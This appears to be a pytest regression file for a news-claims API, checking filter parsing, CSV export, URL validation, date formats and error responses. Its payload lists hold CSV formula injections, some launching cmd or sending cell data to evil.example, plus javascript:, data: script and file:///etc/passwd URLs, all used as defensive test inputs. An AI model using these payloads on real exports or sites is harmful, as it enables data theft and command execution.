"""Defects that outside testing found (issue 8), each pinned by a test that fails on the code before the
fix: digit-like filters, CSV formula injection, non-web URLs, schema and status details."""
from __future__ import annotations

import asyncio
import csv
import io
import re

import pytest
from api_helpers import assert_problem, ingest

from app.api.inputs import BodyLimit
from app.api.routes.export import FORMULA_STARTS, inert

TEXT = "Kirill Dmitriev told Axios that the plan was ready."
# RFC 3339 date-time: a date, a time and an offset (Z or ±hh:mm)
RFC3339 = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})")


@pytest.fixture(scope="module")
def article(client, headers) -> dict:
    return ingest(client, headers, TEXT, publisher="UNN", published="2025-11-19")


# --- item 6: characters str.isdigit() takes and int() refuses ----------------------------------------------

DIGIT_LIKE = ["²", "①", "¹²³", "৩", "߁", "1²"]


@pytest.mark.parametrize("path", ["/v1/claims", "/v1/export"])
@pytest.mark.parametrize("name", ["speaker", "outlet"])
@pytest.mark.parametrize("value", DIGIT_LIKE)
def test_digit_like_filters_are_names_not_ids(client, headers, article, path, name, value):
    response = client.get(path, params={name: value}, headers=headers["reader"])
    assert response.status_code == 200, response.text
    assert response.text.strip() in ('{"items":[],"next_cursor":null}', "")


def test_an_ascii_id_still_filters_by_id(client, headers, article):
    speaker = article["claims"][0]["speaker"]["id"]
    items = client.get("/v1/claims", params={"speaker": str(speaker)}, headers=headers["reader"]).json()["items"]
    assert items and all(c["speaker"]["id"] == speaker for c in items)


def test_a_digit_like_content_length_is_not_a_server_error():
    # a header is Latin-1: '²' is one byte of it, and str.isdigit() takes it (an HTTP client would not send
    # it, so the middleware is called as the server would call it)
    reached = []

    async def app(scope, receive, send):
        reached.append(scope["path"])

    scope = {"type": "http", "method": "POST", "path": "/v1/annotate", "headers": [(b"content-length", b"\xb2")]}
    asyncio.run(BodyLimit(app, limit=10)(scope, None, None))
    assert reached == ["/v1/annotate"]


# --- item 8: CSV export and formula injection ---------------------------------------------------------------

# spreadsheet payloads (OWASP's CSV injection page and the usual lists): each starts a formula in Excel,
# LibreOffice or Google Sheets when a cell begins with it
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")",
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_inert_quotes_every_formula(payload):
    cell = inert(payload)
    assert cell == "'" + payload
    assert not cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", ["Reuters", "a = b", "1-1", "", 0, -1.5, 0.9])
def test_inert_leaves_other_cells_alone(value):
    assert inert(value) == value


def test_csv_export_neutralises_formulas(client, headers):
    stored = [ingest(client, headers, f"{TEXT} Payload {n}.", publisher=payload, title=payload)
              for n, payload in enumerate(PAYLOADS)]
    ids = {a["id"] for a in stored}
    response = client.get("/v1/export", params={"format": "csv"}, headers=headers["reader"])
    assert response.status_code == 200
    rows = [row for row in csv.DictReader(io.StringIO(response.text, newline="")) if int(row["article_id"]) in ids]
    assert len(rows) >= len(PAYLOADS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    titles = {row["article_title"] for row in rows}
    assert titles == {"'" + a["title"] for a in stored}


# --- item 9: only web URLs --------------------------------------------------------------------------------

BAD_URLS = ["javascript:alert(document.cookie)", "JavaScript:alert(1)", " javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "vbscript:msgbox(1)",
            "ftp://example.org/a.txt", "//example.org/no-scheme", "http://", "https://example.org:port/"]


@pytest.mark.parametrize("url", BAD_URLS)
@pytest.mark.parametrize("path", ["/v1/articles", "/v1/annotate"])
def test_a_non_web_url_is_422(client, headers, path, url):
    response = client.post(path, json={"text": f"{TEXT} {url}", "url": url}, headers=headers["analyst"])
    body = assert_problem(response, 422, "url", "http or https")
    assert body["errors"][0]["field"] == "body.url"


def test_a_web_url_is_kept(client, headers):
    article = ingest(client, headers, f"{TEXT} Kept.", url="https://unn.example/peace-plan")
    assert article["url"] == "https://unn.example/peace-plan"


def test_a_pages_own_non_web_url_is_not_kept(client, headers):
    # trafilatura keeps a page's canonical URL only when it is a web address: this pins that
    html = ('<html><head><link rel="canonical" href="javascript:alert(1)"><title>T</title></head><body>'
            f"<article><p>{TEXT} Canonical.</p><p>The mayor said the bridge would open.</p></article></body></html>")
    response = client.post("/v1/articles", json={"html": html}, headers=headers["analyst"])
    assert response.status_code == 201, response.text
    assert response.json()["url"] is None


# --- item 11: schema and status -----------------------------------------------------------------------------

def test_times_carry_their_offset(client, headers, article):
    claim = client.get(f"/v1/claims/{article['claims'][0]['id']}", headers=headers["reader"]).json()
    listed = client.get("/v1/articles", headers=headers["reader"]).json()["items"][0]
    history = client.post(f"/v1/claims/{claim['id']}/review", json={"action": "accept"}, headers=headers["analyst"])
    for value in (claim["created_at"], claim["updated_at"], listed["created_at"], history.json()["created_at"]):
        assert RFC3339.fullmatch(value), value


def test_the_jsonld_export_is_declared_as_what_it_is(client, headers, article):
    spec = client.get("/openapi.json").json()
    content = spec["paths"]["/v1/export"]["get"]["responses"]["200"]["content"]
    schema = content["application/ld+json"]["schema"]
    assert schema["type"] == "object" and {"@context", "type", "first"} <= set(schema["required"])
    jsonschema_rs = pytest.importorskip("jsonschema_rs")  # schemathesis's validator
    document = client.get("/v1/export", params={"format": "jsonld"}, headers=headers["reader"]).json()
    jsonschema_rs.validate(schema, document)
    assert document["first"]["items"]


@pytest.mark.parametrize("value", ["0", "1", "20251119", "-1", "1e3", "2025-1-9", "２０２５-１１-１９"])
@pytest.mark.parametrize(("path", "name"), [("/v1/claims", "published_to"), ("/v1/claims", "published_from"),
                                            ("/v1/export", "published_to"), ("/v1/articles", "published_to"),
                                            ("/v1/outlets/relays", "published_from")])
def test_a_date_must_be_written_as_a_date(client, headers, path, name, value):
    assert_problem(client.get(path, params={name: value}, headers=headers["reader"]), 422, name, "YYYY-MM-DD")


def test_a_published_date_in_a_body_must_be_written_as_a_date(client, headers):
    response = client.post("/v1/annotate", json={"text": TEXT, "published": 0}, headers=headers["reader"])
    assert_problem(response, 422, "published", "YYYY-MM-DD")


def test_a_date_written_as_a_date_is_taken(client, headers, article):
    response = client.get("/v1/claims", params={"published_to": "2025-11-19"}, headers=headers["reader"])
    assert response.status_code == 200 and response.json()["items"]


@pytest.mark.parametrize(("method", "path", "allowed"), [
    ("PUT", "/v1/articles/1", {"GET", "DELETE"}),
    ("DELETE", "/v1/claims/1", {"GET", "PATCH"}),
    ("PUT", "/v1/articles", {"GET", "POST"}),
    ("GET", "/v1/annotate", {"POST"}),
])
def test_405_names_every_method_of_the_path(client, headers, method, path, allowed):
    response = client.request(method, path, headers=headers["admin"])
    assert_problem(response, 405, f"{method} is not allowed")
    assert set(response.headers["allow"].split(", ")) == allowed


@pytest.mark.parametrize("depth", [100_000, 5_000])
def test_deeply_nested_json_is_refused_for_its_depth(client, headers, depth):
    body = b'{"text": ' + b"[" * depth + b"]" * depth + b"}"
    response = client.post("/v1/annotate", content=body,
                           headers={**headers["reader"], "Content-Type": "application/json"})
    problem = assert_problem(response, 422, "malformed JSON", "nested too deeply")
    assert problem["errors"][0]["type"] == "json_too_deep"
    assert "UTF-8" not in problem["detail"]


def test_a_body_that_is_not_utf8_is_still_named_so(client, headers):
    response = client.post("/v1/annotate", content=b'{"text": "\xff\xfe"}',
                           headers={**headers["reader"], "Content-Type": "application/json"})
    assert_problem(response, 422, "not UTF-8")
